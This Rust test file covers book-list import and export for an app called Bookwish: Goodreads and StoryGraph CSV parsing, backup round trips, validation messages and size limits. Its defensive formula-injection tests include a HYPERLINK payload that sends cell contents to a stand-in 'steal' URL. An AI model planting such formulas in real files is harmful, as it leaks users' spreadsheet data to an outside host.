//! Import tests on committed fixtures (`fixtures/`): files made in the documented formats,
//! with invented books and people.

use std::io::Read;

use bookwish_ipc::Book;

use super::*;
use crate::export;

const GOODREADS: &[u8] = include_bytes!("fixtures/goodreads_library_export.csv");
const GOODREADS_PROBLEMS: &[u8] = include_bytes!("fixtures/goodreads_with_problems.csv");
const STORYGRAPH: &[u8] = include_bytes!("fixtures/storygraph_export.csv");
const BOOKWISH_CSV: &[u8] = include_bytes!("fixtures/bookwish.csv");
const BOOKWISH_JSON: &[u8] = include_bytes!("fixtures/bookwish_backup.json");
const BOOKWISH_JSON_PROBLEMS: &[u8] = include_bytes!("fixtures/bookwish_backup_with_problems.json");

type TestResult = Result<(), Box<dyn std::error::Error>>;

fn preview(bytes: &[u8]) -> ImportPreview {
    match preview_bytes(bytes) {
        Ok(preview) => preview,
        Err(error) => panic!("the fixture must import: {error}"),
    }
}

fn refusal(bytes: &[u8]) -> ImportError {
    match preview_bytes(bytes) {
        Ok(preview) => panic!("the file must be refused, got {preview:?}"),
        Err(error) => error,
    }
}

/// The row titled `title`; panics if there is none.
fn titled<'a>(preview: &'a ImportPreview, title: &str) -> &'a ImportRow {
    match preview.rows.iter().find(|row| row.title == title) {
        Some(row) => row,
        None => panic!("a row titled {title:?} must be imported"),
    }
}

/// Midnight UTC of `YYYY-MM-DD`, in ms.
fn day(date: &str) -> Option<i64> {
    NaiveDate::parse_from_str(date, "%Y-%m-%d").ok().map(millis)
}

fn isbn(text: &str) -> Option<Isbn> {
    Isbn::parse(text).ok()
}

fn date(text: &str) -> Option<String> {
    Some(text.to_owned())
}

/// A row with the given basics and nothing else.
fn row(line: u64, title: &str, author: &str, status: Status) -> ImportRow {
    ImportRow {
        line,
        id: None,
        title: title.to_owned(),
        author: author.to_owned(),
        status,
        notes: String::new(),
        rating: None,
        started_on: None,
        finished_on: None,
        isbn: None,
        created_at: None,
        updated_at: None,
    }
}

#[test]
fn goodreads_export_is_detected_and_every_book_read() {
    let preview = preview(GOODREADS);
    assert_eq!(
        preview.format,
        Format::Goodreads,
        "the header names Goodreads"
    );
    assert_eq!(
        preview.problems,
        vec![],
        "every record of the fixture is a book"
    );
    assert_eq!(preview.rows.len(), 20, "twenty records, twenty books");
    let lines: Vec<u64> = preview.rows.iter().map(|row| row.line).collect();
    assert_eq!(
        lines,
        vec![2, 3, 4, 5, 6, 7, 8, 12, 13, 14, 15, 16, 18, 19, 20, 21, 22, 23, 24, 25],
        "each row's line is the physical line its record starts on, after multi-line reviews"
    );
}

#[test]
fn goodreads_columns_map_onto_books() {
    let preview = preview(GOODREADS);
    assert_eq!(
        *titled(&preview, "The Salt Cartographer"),
        ImportRow {
            notes: "A map that folds the sea.\n\nSlow middle, wonderful ending.\n\n\
                    Private notes:\nLent to Ruth, came back with sand in it."
                .to_owned(),
            rating: Some(4),
            finished_on: date("2023-11-02"),
            isbn: isbn("9780999100370"),
            created_at: day("2023-09-14"),
            ..row(2, "The Salt Cartographer", "Imogen Vael", Status::Finished)
        },
        "read shelf, rating, Date Read, Date Added, ISBN13, review with <br/> and private notes"
    );
    assert_eq!(
        *titled(&preview, "Lanterns Over Quarry Street"),
        ImportRow {
            created_at: day("2024-01-03"),
            ..row(
                3,
                "Lanterns Over Quarry Street",
                "Tobias Wren",
                Status::Wishlist
            )
        },
        "to-read is Wishlist, My Rating 0 is no rating, =\"\" is no ISBN"
    );
    assert_eq!(
        titled(&preview, "A Grammar of Small Winters").status,
        Status::Reading,
        "currently-reading is Reading"
    );
    let orchard = titled(&preview, "The Orchard Ledger");
    assert_eq!(
        (orchard.status, orchard.rating, orchard.notes.as_str()),
        (
            Status::Wishlist,
            Some(2),
            "Stopped at chapter nine.\n\nGoodreads shelves: did-not-finish"
        ),
        "a custom shelf without a Date Read is Wishlist, its name kept in the notes"
    );
    let bells = titled(&preview, "Nine Bells for Ostrava");
    assert_eq!(
        (
            bells.status,
            bells.finished_on.as_deref(),
            bells.notes.as_str()
        ),
        (
            Status::Finished,
            Some("2022-06-30"),
            "Goodreads shelves: favourites-reread, audiobooks"
        ),
        "a custom shelf with a Date Read is Finished; every non-status shelf is kept"
    );
    assert_eq!(
        titled(&preview, "The Patient Ferryman").author,
        "Ada Lindqvist, Jonah Achterberg, Priya Raman",
        "Additional Authors follow the Author"
    );
    let harbour = titled(&preview, "The \"Quiet\" Harbour, Revisited");
    assert_eq!(
        (
            harbour.line,
            harbour.author.as_str(),
            harbour.notes.as_str()
        ),
        (
            8,
            "Colm Ó Briain",
            "First line of my review.\nSecond line, with a comma.\n\n\"Quoted\" bit at the end."
        ),
        "quoted titles with quotes and commas, and multi-line reviews, read whole"
    );
    assert_eq!(
        titled(&preview, "Maps of the Unlit Coast").isbn,
        isbn("9780999103708"),
        "an ISBN-10 alone becomes the 978 ISBN-13"
    );
    assert_eq!(
        titled(&preview, "Paper Moons of Tallinn").notes,
        "Gift from the book club.\nReread in winter.",
        "private notes alone need no heading"
    );
    assert_eq!(
        titled(&preview, "The Ember Accord (Tidewater Saga, #2)").notes,
        "Goodreads shelves: sci-fi, favourites",
        "shelves are kept as a notes line"
    );
    assert_eq!(
        titled(&preview, "Cartography of Rain").author,
        "Sarah Quill",
        "runs of spaces inside an author's name are one space"
    );
    assert_eq!(
        titled(&preview, "Ciphers at Low Tide").notes,
        "Clever.\nToo clever by half?\nStill, recommended.",
        "every spelling of <br> is a line break"
    );
    assert_eq!(
        titled(&preview, "The Last Tram to Kalmar").notes,
        "Goodreads shelves: book-club",
        "status shelves are not repeated in the notes"
    );
    for (title, author) in [
        ("Gödel's Lighthouse", "Zoë Ångström-Kowalczyk"),
        ("Ο Φύλακας των Αστεριών", "Ελένη Παπαδάκη"),
        ("北の庭の記録", "佐藤 美咲"),
        ("Salt & Ash: Poems", "Teodor Vlašić"),
    ] {
        assert_eq!(
            titled(&preview, title).author,
            author,
            "text in any script is kept as written"
        );
    }
}

#[test]
fn storygraph_columns_map_onto_books() {
    let preview = preview(STORYGRAPH);
    assert_eq!(
        preview.format,
        Format::StoryGraph,
        "the header names StoryGraph"
    );
    assert_eq!(preview.problems, vec![], "every record is a book");
    assert_eq!(preview.rows.len(), 12, "twelve records, twelve books");
    assert_eq!(
        *titled(&preview, "The Salt Cartographer"),
        ImportRow {
            notes: "Loved the maps.\n\nStoryGraph tags: maps, sea".to_owned(),
            rating: Some(4),
            started_on: date("2023-10-01"),
            finished_on: date("2023-11-02"),
            isbn: isbn("9780999107409"),
            created_at: day("2023-09-14"),
            ..row(2, "The Salt Cartographer", "Imogen Vael", Status::Finished)
        },
        "read, 3.75 stars → 4, Dates Read start, Last Date Read, ISBN/UID, Review and Tags"
    );
    assert_eq!(
        *titled(&preview, "The Orchard Ledger"),
        ImportRow {
            notes: "Could not get into it.\n\nDid not finish.".to_owned(),
            rating: Some(1),
            started_on: date("2024-03-05"),
            finished_on: date("2024-03-20"),
            isbn: isbn("9780999107775"),
            created_at: day("2024-03-01"),
            ..row(
                3,
                "The Orchard Ledger",
                "Marguerite Osei-Bonsu",
                Status::Finished
            )
        },
        "did-not-finish is Finished with a notes line; 1.25 stars → 1"
    );
    let atlas = titled(&preview, "Atlas of Tidal Cities");
    assert_eq!(
        (
            atlas.author.as_str(),
            atlas.rating,
            atlas.started_on.as_deref(),
            atlas.finished_on.as_deref()
        ),
        (
            "Ada Lindqvist, Jonah Achterberg, Priya Raman",
            Some(4),
            Some("2024-06-01"),
            Some("2024-06-20")
        ),
        "several authors kept; the reading that ended on Last Date Read gives the start"
    );
    let tram = titled(&preview, "The Last Tram to Kalmar");
    assert_eq!(
        (
            tram.status,
            tram.started_on.as_deref(),
            tram.finished_on.as_deref(),
            tram.rating
        ),
        (Status::Reading, Some("2024-05-02"), None, None),
        "currently-reading: the open reading's start, no finish, no rating"
    );
    let paused = titled(&preview, "A Grammar of Small Winters");
    assert_eq!(
        (
            paused.status,
            paused.notes.as_str(),
            paused.started_on.as_deref()
        ),
        (Status::Reading, "Paused.", Some("2024-02-21")),
        "paused is Reading with a notes line"
    );
    for title in [
        "Kindle Nights",
        "Unlisted Pamphlet",
        "Paper Moons of Tallinn",
    ] {
        assert_eq!(
            titled(&preview, title).isbn,
            None,
            "an ASIN, a StoryGraph id or nothing in ISBN/UID is no ISBN ({title})"
        );
    }
    for (title, stars) in [
        ("Small Hours", 1),
        ("Nine Bells for Ostrava", 5),
        ("Ciphers at Low Tide", 2),
        ("What the Heron Knew", 4),
    ] {
        assert_eq!(
            titled(&preview, title).rating,
            Some(stars),
            "quarter stars round to the nearest star, halves up, never below one ({title})"
        );
    }
    let ciphers = titled(&preview, "Ciphers at Low Tide");
    assert_eq!(
        (
            ciphers.line,
            ciphers.notes.as_str(),
            ciphers.started_on.as_deref(),
            ciphers.finished_on.as_deref()
        ),
        (
            11,
            "Clever.\nToo clever by half?\n\nStoryGraph tags: mystery",
            None,
            Some("2022-11-11")
        ),
        "a multi-line review, a single-date reading"
    );
    assert_eq!(
        titled(&preview, "Paper Moons of Tallinn").line,
        14,
        "lines count the review's line break"
    );
}

#[test]
fn ratings_round_to_whole_stars() {
    for (written, stars) in [
        ("", None),
        ("0", None),
        ("0.0", None),
        ("0.25", Some(1)),
        ("0.5", Some(1)),
        ("1", Some(1)),
        ("2.25", Some(2)),
        ("2.5", Some(3)),
        ("3.75", Some(4)),
        ("4.0", Some(4)),
        ("4.5", Some(5)),
        ("5", Some(5)),
    ] {
        assert_eq!(
            super::stars("Star Rating", written),
            Ok(stars),
            "{written:?} stars"
        );
    }
    for broken in ["6", "-1", "five", "NaN", "inf", "4,5"] {
        assert!(
            super::stars("Star Rating", broken).is_err(),
            "{broken:?} is not a rating"
        );
    }
}

#[test]
fn file_dates_accept_slashes_and_hyphens_only_in_year_month_day_order() {
    for (written, iso) in [
        ("2024/05/31", Some("2024-05-31")),
        ("2024-05-31", Some("2024-05-31")),
        ("2024/5/3", Some("2024-05-03")),
        ("  ", None),
    ] {
        assert_eq!(
            file_date("Date Read", written).map(|date| date.map(crate::validate::format_date)),
            Ok(iso.map(str::to_owned)),
            "{written:?}"
        );
    }
    for (broken, reason) in [
        (
            "31/05/2024",
            "Date Read \"31/05/2024\" isn't a date written like 2024/05/31.",
        ),
        (
            "May 31, 2024",
            "Date Read \"May 31, 2024\" isn't a date written like 2024/05/31.",
        ),
        (
            "2023/02/29",
            "Date Read 2023/02/29 isn't a real calendar date.",
        ),
        (
            "0000/01/01",
            "Date Read 0000/01/01 isn't a real calendar date.",
        ),
    ] {
        assert_eq!(
            file_date("Date Read", broken),
            Err(reason.to_owned()),
            "{broken:?} is refused, naming the column"
        );
    }
}

#[test]
fn broken_records_are_problems_with_their_line_and_the_rest_is_read() {
    let preview = preview(GOODREADS_PROBLEMS);
    let titles: Vec<&str> = preview.rows.iter().map(|row| row.title.as_str()).collect();
    assert_eq!(
        titles,
        vec![
            "Good Row Before",
            "=HYPERLINK(\"http://example.test/steal?x=\"&A1,\"Click me\")",
            "Good Row After"
        ],
        "the readable records are books, in file order"
    );
    let problems: Vec<(u64, &str)> = preview
        .problems
        .iter()
        .map(|problem| (problem.line, problem.reason.as_str()))
        .collect();
    let notes_reason = "Notes are too long (10517 characters; the limit is 10000). (Bookwish \
                        keeps My Review, Private Notes and the shelves together as the book's \
                        notes; shorten them in the file and import it again.)";
    assert_eq!(
        problems,
        vec![
            (
                6,
                "Date Read \"31/05/2024\" isn't a date written like 2024/05/31."
            ),
            (7, "Date Read 2023/02/29 isn't a real calendar date."),
            (8, "My Rating \"7\" isn't a rating from 0 to 5 stars."),
            (
                9,
                "ISBN13 \"9780441013594\": The ISBN's check digit is 4 but should be 3: a digit \
                 may be mistyped."
            ),
            (10, "Title can't be empty."),
            (11, notes_reason),
            (
                13,
                "This line has 3 values but the first line names 24 columns: a comma or a \
                 quote may be missing or extra."
            ),
        ],
        "each broken record is named by the line it starts on, with the reason; the row of \
         empty cells on line 14 is skipped"
    );
}

#[test]
fn formula_cells_import_as_text_and_export_neutralised() -> TestResult {
    let preview = preview(GOODREADS_PROBLEMS);
    let injected = &preview.rows[1];
    assert_eq!(
        (injected.author.as_str(), injected.notes.as_str()),
        ("@mallory", "+1 great\n\nPrivate notes:\n-2 minus"),
        "formula-looking cells are plain text in Bookwish: nothing evaluates them"
    );
    let book = book_of(injected, BookId::nil(), 0);
    let mut goodreads = Vec::new();
    export::goodreads_csv(std::slice::from_ref(&book), &mut goodreads)?;
    let goodreads = String::from_utf8(goodreads)?;
    assert!(
        goodreads.contains("\"'=HYPERLINK(\"\"http://example.test"),
        "the exported title starts with an apostrophe, so spreadsheets show it as text: \
         {goodreads}"
    );
    assert!(
        goodreads.contains(",'@mallory,"),
        "the exported author is neutralised: {goodreads}"
    );
    let mut bookwish = Vec::new();
    export::bookwish_csv(std::slice::from_ref(&book), &mut bookwish)?;
    let back = preview_bytes(&bookwish)?;
    assert_eq!(
        (back.rows[0].title.as_str(), back.rows[0].author.as_str()),
        (book.title.as_str(), book.author.as_str()),
        "Bookwish's own import undoes the neutralisation exactly"
    );
    Ok(())
}

#[test]
fn a_100_kb_title_is_a_problem_not_a_crash() {
    let preview = preview(include_bytes!("fixtures/bad_long_title.csv"));
    assert_eq!(
        preview.rows.iter().map(|row| row.line).collect::<Vec<_>>(),
        vec![2, 4],
        "the records around it are books"
    );
    assert_eq!(
        preview.problems,
        vec![RowProblem {
            line: 3,
            reason: "Title is too long (100000 characters; the limit is 500).".to_owned()
        }],
        "the long title is refused with its length and the limit"
    );
}

#[test]
fn windows_line_ends_give_the_same_rows_and_lines() {
    let crlf = String::from_utf8_lossy(GOODREADS).replace('\n', "\r\n");
    let mut unix = preview(GOODREADS);
    let windows = preview(crlf.as_bytes());
    // Line breaks inside quoted values are data: CRLF there becomes \n in notes (as typed
    // notes do), so only the notes may differ, and they do not here after canonicalising.
    for row in &mut unix.rows {
        row.notes = row.notes.replace("\r\n", "\n");
    }
    assert_eq!(
        windows, unix,
        "a file saved with CRLF line ends reads the same, line numbers included"
    );
}

#[test]
fn bad_files_are_refused_whole_with_a_reason() {
    let check = |bytes: &[u8], matches: fn(&ImportError) -> bool, message: &str| {
        let error = refusal(bytes);
        assert!(matches(&error), "{message}: got {error:?}");
        error.to_string()
    };
    check(
        b"",
        |e| matches!(e, ImportError::Empty),
        "an empty file is empty",
    );
    check(
        b"\xEF\xBB\xBF \n\t\n",
        |e| matches!(e, ImportError::Empty),
        "whitespace is empty",
    );
    let message = check(
        include_bytes!("fixtures/bad_header_only.csv"),
        |e| {
            matches!(
                e,
                ImportError::NoRows {
                    format: Format::Goodreads
                }
            )
        },
        "a header and no records lists no books",
    );
    assert_eq!(
        message,
        "This is a Goodreads export, but it lists no books."
    );
    let message = check(
        include_bytes!("fixtures/bad_wrong_header.csv"),
        |e| matches!(e, ImportError::UnknownHeader { found } if found.len() == 4),
        "a bank statement is no reading list",
    );
    assert!(
        message.ends_with("it names: Date, Description, Amount, Balance."),
        "the message names the expected and the found columns: {message}"
    );
    let message = check(
        include_bytes!("fixtures/bad_unclosed_quote.csv"),
        |e| matches!(e, ImportError::UnclosedQuote { line: 5 }),
        "a quote opened on line 5 and never closed",
    );
    assert!(message.starts_with("A quoted value that starts on line 5 is never closed"));
    check(
        include_bytes!("fixtures/bad_latin1.csv"),
        |e| matches!(e, ImportError::InvalidUtf8 { line: 4 }),
        "Latin-1 é on line 4 is not UTF-8",
    );
    check(
        include_bytes!("fixtures/bad_utf16.csv"),
        |e| matches!(e, ImportError::Utf16),
        "UTF-16 is named as such",
    );
    let message = check(
        include_bytes!("fixtures/bad_workbook.xlsx"),
        |e| matches!(e, ImportError::NotText { .. }),
        "a workbook is not CSV",
    );
    assert!(
        message.contains("Save it as \"CSV UTF-8\""),
        "a workbook's message says how to get a CSV: {message}"
    );
    check(
        include_bytes!("fixtures/bad_binary.bin"),
        |e| {
            matches!(
                e,
                ImportError::NotText {
                    kind: "a binary file"
                }
            )
        },
        "NUL bytes are binary",
    );
    let message = check(
        b"Book Id,Title,Author,My Rating\n1,Dune,Frank Herbert,5\n",
        |e| {
            matches!(e, ImportError::MissingColumns { format: Format::Goodreads, missing }
                if missing == &vec!["Exclusive Shelf"])
        },
        "a Goodreads-looking file without Exclusive Shelf",
    );
    assert_eq!(
        message,
        "This looks like a Goodreads export, but it has no Exclusive Shelf column."
    );
}

#[test]
fn a_200_mb_file_is_refused_before_it_is_read() -> TestResult {
    let dir = tempfile::tempdir()?;
    let path = dir.path().join("huge.csv");
    // A sparse file: 200 MB long, no disk used; refusing it must not read it.
    std::fs::File::create(&path)?.set_len(200 * 1024 * 1024)?;
    let error = preview_file(&path).err();
    assert!(
        matches!(error, Some(ImportError::TooLarge { bytes: Some(bytes) }) if bytes == 200 * 1024 * 1024),
        "a 200 MB file is refused by its size: {error:?}"
    );
    assert_eq!(
        error.map(|e| e.to_string()).unwrap_or_default(),
        "This file is 200 MB: Bookwish imports files up to 50 MB. Is it the right file?"
    );

    // A stream of unknown size is cut off one byte past the limit.
    let mut endless = std::io::repeat(b'a').take(200 * 1024 * 1024);
    let error = preview_reader(&mut endless, None).err();
    assert!(
        matches!(error, Some(ImportError::TooLarge { bytes: None })),
        "a stream over the limit is refused: {error:?}"
    );
    assert_eq!(
        error.map(|e| e.to_string()).unwrap_or_default(),
        "This file is too big: Bookwish imports files up to 50 MB. Is it the right file?",
        "a stream's size is not known, only that it is over the limit"
    );
    assert_eq!(
        endless.limit(),
        200 * 1024 * 1024 - (MAX_FILE_BYTES + 1),
        "no more than the limit plus one byte was read"
    );
    Ok(())
}

#[test]
fn preview_file_reads_a_file_on_disk() -> TestResult {
    let dir = tempfile::tempdir()?;
    let path = dir.path().join("goodreads_library_export.csv");
    std::fs::write(&path, GOODREADS)?;
    assert_eq!(
        preview_file(&path)?,
        preview(GOODREADS),
        "reading from disk gives the same preview as the bytes"
    );
    assert!(
        matches!(
            preview_file(&dir.path().join("missing.csv")),
            Err(ImportError::Io(_))
        ),
        "a missing file is an I/O error"
    );
    Ok(())
}

// ---- Bookwish's own formats ------------------------------------------------------------

fn id(n: u128) -> BookId {
    BookId::from_u128(0x0190_c5d2_3b7a_7cc1_9a5e_0000_0000_0000 | n)
}

/// Books with everything that could go wrong in a file: quotes, commas, line breaks,
/// formula starts, apostrophes, other scripts, empty and full fields.
fn sample_books() -> Vec<(Book, Option<Isbn>)> {
    let book = |n: u128, title: &str| Book {
        id: id(n),
        title: title.to_owned(),
        author: String::new(),
        status: Status::Wishlist,
        notes: String::new(),
        rating: None,
        started_on: None,
        finished_on: None,
        isbn: None,
        created_at: 1_704_150_000_000 + n as i64 * 86_400_123,
        updated_at: 1_707_650_000_000 + n as i64 * 3_600_007,
    };
    vec![
        (
            Book {
                author: "Imogen Vael".to_owned(),
                status: Status::Finished,
                notes: "A map that folds the sea.\n\n\"Slow\" middle, wonderful ending;\n\tlent to Ruth."
                    .to_owned(),
                rating: Some(4),
                started_on: date("2023-10-01"),
                finished_on: date("2023-11-02"),
                ..book(1, "The Salt Cartographer")
            },
            isbn("9780999100370"),
        ),
        (
            Book {
                author: "@mallory".to_owned(),
                notes: "-starts with a dash\n=and a formula line".to_owned(),
                ..book(2, "=HYPERLINK(\"http://example.test\",\"Click\")")
            },
            None,
        ),
        (
            Book {
                author: "+ Plus Author".to_owned(),
                notes: "'".to_owned(),
                rating: Some(1),
                ..book(3, "'=already quoted")
            },
            isbn("9791032305690"),
        ),
        (
            Book {
                author: "Ελένη Παπαδάκη".to_owned(),
                status: Status::Reading,
                notes: "Ο Φύλακας — 北の庭の記録 — 📚".to_owned(),
                started_on: date("2024-02-21"),
                ..book(4, "Ο Φύλακας των Αστεριών")
            },
            None,
        ),
        (
            Book {
                status: Status::Finished,
                rating: Some(5),
                finished_on: date("2019-12-31"),
                ..book(5, "The \"Quiet\" Harbour, Revisited")
            },
            isbn("080442957X"),
        ),
    ]
}

/// The row Bookwish formats give for `book` on `line`.
fn row_of(book: &Book, isbn: Option<Isbn>, line: u64) -> ImportRow {
    ImportRow {
        line,
        id: Some(book.id),
        title: book.title.clone(),
        author: book.author.clone(),
        status: book.status,
        notes: book.notes.clone(),
        rating: book.rating,
        started_on: book.started_on.clone(),
        finished_on: book.finished_on.clone(),
        isbn,
        created_at: Some(book.created_at),
        updated_at: Some(book.updated_at),
    }
}

/// The book an imported row would become with `id` and times `at` when it has none.
fn book_of(row: &ImportRow, id: BookId, at: i64) -> Book {
    Book {
        id: row.id.unwrap_or(id),
        title: row.title.clone(),
        author: row.author.clone(),
        status: row.status,
        notes: row.notes.clone(),
        rating: row.rating,
        started_on: row.started_on.clone(),
        finished_on: row.finished_on.clone(),
        isbn: row.isbn.map(|isbn| isbn.to_string()),
        created_at: row.created_at.unwrap_or(at),
        updated_at: row.updated_at.unwrap_or(at),
    }
}

fn without_lines(rows: &[ImportRow]) -> Vec<ImportRow> {
    rows.iter()
        .map(|row| ImportRow {
            line: 0,
            ..row.clone()
        })
        .collect()
}

#[test]
fn bookwish_csv_export_is_the_committed_format_and_imports_back_equal() -> TestResult {
    let books = sample_books();
    let mut written = Vec::new();
    export::bookwish_csv(&books, &mut written)?;
    assert_eq!(
        String::from_utf8_lossy(&written),
        String::from_utf8_lossy(BOOKWISH_CSV),
        "the export writes the documented format byte for byte (fixtures/bookwish.csv)"
    );
    let preview = preview(BOOKWISH_CSV);
    assert_eq!(
        preview.format,
        Format::BookwishCsv,
        "detected by its header"
    );
    assert_eq!(preview.problems, vec![], "every book reads back");
    let expected: Vec<ImportRow> = books
        .iter()
        .map(|(book, isbn)| row_of(book, *isbn, 0))
        .collect();
    assert_eq!(
        without_lines(&preview.rows),
        expected,
        "every field, the id and the times come back equal"
    );
    assert_eq!(
        preview.rows.iter().map(|row| row.line).collect::<Vec<_>>(),
        vec![2, 6, 8, 9, 10],
        "lines count the line breaks inside notes"
    );
    Ok(())
}

#[test]
fn backup_export_is_the_committed_format_and_imports_back_equal() -> TestResult {
    let books = sample_books();
    let mut written = Vec::new();
    export::backup_json(&books, 1_717_147_800_125, &mut written)?;
    assert_eq!(
        String::from_utf8_lossy(&written),
        String::from_utf8_lossy(BOOKWISH_JSON),
        "the backup writes the documented format byte for byte (fixtures/bookwish_backup.json)"
    );
    let preview = preview(BOOKWISH_JSON);
    assert_eq!(
        preview.format,
        Format::BookwishJson,
        "detected by its format field"
    );
    assert_eq!(preview.problems, vec![], "every book reads back");
    let expected: Vec<ImportRow> = books
        .iter()
        .map(|(book, isbn)| row_of(book, *isbn, 0))
        .collect();
    assert_eq!(
        without_lines(&preview.rows),
        expected,
        "every field, the id and the times come back equal"
    );
    assert_eq!(
        preview.rows.iter().map(|row| row.line).collect::<Vec<_>>(),
        vec![6, 19, 32, 45, 58],
        "a book's line is where its object starts"
    );
    Ok(())
}

#[test]
fn importing_a_backup_twice_gives_the_same_rows() {
    assert_eq!(
        preview(BOOKWISH_JSON),
        preview(BOOKWISH_JSON),
        "parsing is deterministic: restoring twice offers the same books with the same ids"
    );
    assert_eq!(
        preview(BOOKWISH_CSV),
        preview(BOOKWISH_CSV),
        "the same holds for Bookwish CSV"
    );
}

#[test]
fn many_generated_books_round_trip_through_both_bookwish_formats() -> TestResult {
    const PIECES: [&str; 12] = [
        "Dune", "=SUM(A1)", "-", "+", "@", "'", "\"", ",", "é", "ß", "北", "'-",
    ];
    let books: Vec<(Book, Option<Isbn>)> = (0..500u32)
        .map(|n| {
            let piece = |k: u32| PIECES[((n * 7 + k * 13) % 12) as usize];
            let title = format!("{}{} {n}{}", piece(0), piece(1), piece(2));
            let book = Book {
                id: id(u128::from(n) + 100),
                title,
                author: format!("{}{}", piece(3), piece(4)).trim().to_owned(),
                status: Status::ALL[(n % 3) as usize],
                notes: if n % 4 == 0 {
                    String::new()
                } else {
                    format!("{}\n{}\t{}", piece(5), piece(6), piece(7))
                },
                rating: (n % 6 != 0).then_some((n % 5) as u8 + 1),
                started_on: (n % 2 == 0).then(|| format!("20{:02}-01-{:02}", n % 25, n % 28 + 1)),
                finished_on: (n % 4 == 0).then(|| format!("20{:02}-12-31", n % 25)),
                isbn: None,
                created_at: 1_600_000_000_000 + i64::from(n) * 1_234_567,
                updated_at: 1_700_000_000_000 + i64::from(n) * 7_654_321,
            };
            (book, (n % 3 == 0).then(|| isbn("9780441013593")).flatten())
        })
        .collect();
    let expected: Vec<ImportRow> = books
        .iter()
        .map(|(book, isbn)| row_of(book, *isbn, 0))
        .collect();

    let mut csv = Vec::new();
    export::bookwish_csv(&books, &mut csv)?;
    let from_csv = preview_bytes(&csv)?;
    assert_eq!(
        from_csv.problems,
        vec![],
        "every generated book reads back from CSV"
    );
    assert_eq!(
        without_lines(&from_csv.rows),
        expected,
        "Bookwish CSV round trip is exact"
    );

    let mut json = Vec::new();
    export::backup_json(&books, 0, &mut json)?;
    let from_json = preview_bytes(&json)?;
    assert_eq!(
        from_json.problems,
        vec![],
        "every generated book reads back from JSON"
    );
    assert_eq!(
        without_lines(&from_json.rows),
        expected,
        "backup round trip is exact"
    );
    Ok(())
}

#[test]
fn goodreads_csv_export_reads_back_as_a_goodreads_file() -> TestResult {
    let books = sample_books();
    let mut written = Vec::new();
    export::goodreads_csv(&books, &mut written)?;
    let text = String::from_utf8(written.clone())?;
    assert!(
        text.starts_with(
            "\u{feff}Title,Author,ISBN,ISBN13,My Rating,Date Read,Date Added,Bookshelves,\
             Exclusive Shelf,Private Notes\r\n"
        ),
        "a BOM, Goodreads' column names, CRLF: {text}"
    );
    assert!(
        text.contains(
            "\"The \"\"Quiet\"\" Harbour, Revisited\",,080442957X,9780804429573,5,2019/12/31,\
             2024/01/06,read,read,\r\n"
        ),
        "ISBN-10 and 13 as plain digits, the rating, slashed dates, the shelf: {text}"
    );
    let back = preview_bytes(&written)?;
    assert_eq!(
        back.format,
        Format::Goodreads,
        "our Goodreads CSV reads as Goodreads"
    );
    assert_eq!(back.problems, vec![], "every exported book reads back");
    for ((book, isbn), row) in books.iter().zip(&back.rows) {
        assert_eq!(
            (
                &row.title,
                &row.author,
                row.status,
                &row.notes,
                row.rating,
                &row.finished_on,
                row.isbn
            ),
            (
                &book.title,
                &book.author,
                book.status,
                &book.notes,
                book.rating,
                &book.finished_on,
                *isbn
            ),
            "what the Goodreads layout has a column for comes back"
        );
        assert_eq!(
            row.created_at,
            Some(book.created_at - book.created_at.rem_euclid(86_400_000)),
            "Date Added keeps the day"
        );
    }
    Ok(())
}

#[test]
fn duplicate_ids_in_one_file_are_problems() {
    let books = sample_books();
    let first = &books[0];
    let copy = (
        Book {
            title: "Same id, other title".to_owned(),
            ..first.0.clone()
        },
        None,
    );
    let mut json = Vec::new();
    let mut csv = Vec::new();
    let twice = vec![first.clone(), copy];
    assert!(export::backup_json(&twice, 0, &mut json).is_ok());
    assert!(export::bookwish_csv(&twice, &mut csv).is_ok());
    for (bytes, line, first_line) in [(json, 19, 6), (csv, 6, 2)] {
        let preview = preview(&bytes);
        assert_eq!(preview.rows.len(), 1, "the first book with the id is read");
        assert_eq!(
            preview.problems,
            vec![RowProblem {
                line,
                reason: format!(
                    "This book has the same id as the book on line {first_line}; a file lists \
                     each book once."
                )
            }],
            "the second is a problem naming the first"
        );
    }
}

#[test]
fn backup_books_that_break_rules_are_problems_with_their_line() {
    let preview = preview(BOOKWISH_JSON_PROBLEMS);
    assert_eq!(
        preview
            .rows
            .iter()
            .map(|row| row.title.as_str())
            .collect::<Vec<_>>(),
        vec!["Fine", "No optional fields"],
        "the readable books are read"
    );
    assert_eq!(
        preview.rows[1],
        ImportRow {
            id: Some(id(6)),
            created_at: Some(1_704_150_000_000),
            updated_at: Some(1_704_150_000_000),
            ..row(37, "No optional fields", "", Status::Wishlist)
        },
        "author, notes, rating, dates and ISBN may be left out"
    );
    let problems: Vec<(u64, &str)> = preview
        .problems
        .iter()
        .map(|problem| (problem.line, problem.reason.as_str()))
        .collect();
    assert_eq!(
        problems,
        vec![
            (
                13,
                "This book can't be read: unknown field `auther`, expected one of `id`, \
                 `title`, `author`, `status`, `notes`, `rating`, `started_on`, `finished_on`, \
                 `isbn`, `created_at`, `updated_at`."
            ),
            (
                21,
                "This book can't be read: The ISBN's check digit is 4 but should be 3: a digit \
                 may be mistyped."
            ),
            (29, "Rating must be between 1 and 5 stars."),
            (
                44,
                "This book can't be read: unknown status \"Abandoned\": use Wishlist, Reading or \
                 Finished."
            ),
            (
                51,
                "created_at -1 isn't a time Bookwish can keep (milliseconds since 1970)."
            ),
        ],
        "each broken book is named by the line its object starts on"
    );
}

#[test]
fn broken_and_foreign_json_is_refused() {
    let broken = &BOOKWISH_JSON[..BOOKWISH_JSON.len() / 2];
    assert!(
        matches!(refusal(broken), ImportError::Json { .. }),
        "a backup cut in half is damaged JSON"
    );
    assert!(
        matches!(
            refusal(br#"{"name": "my list", "items": []}"#),
            ImportError::NotBackup
        ),
        "another program's JSON is not a backup"
    );
    assert!(
        matches!(refusal(b"[1, 2, 3]"), ImportError::NotBackup),
        "a JSON array is not a backup"
    );
    assert!(
        matches!(
            refusal(
                br#"{"format": "bookwish-backup", "version": 2, "exported_at": 0, "books": []}"#
            ),
            ImportError::NewerBackup { version: 2 }
        ),
        "a newer backup version is refused, not half-read"
    );
    assert!(
        matches!(
            refusal(
                br#"{"format": "bookwish-backup", "version": 1, "exported_at": 0, "books": []}"#
            ),
            ImportError::NoRows {
                format: Format::BookwishJson
            }
        ),
        "a backup of an empty list has nothing to import"
    );
}

#[test]
fn refusals_reach_ipc_as_validation_of_the_file() {
    let ipc = IpcError::from(ImportError::Utf16);
    assert_eq!(
        (ipc.code, ipc.field.as_deref()),
        (ErrorCode::Validation, Some("file")),
        "a refused file is a validation error on the file"
    );
}

#[test]
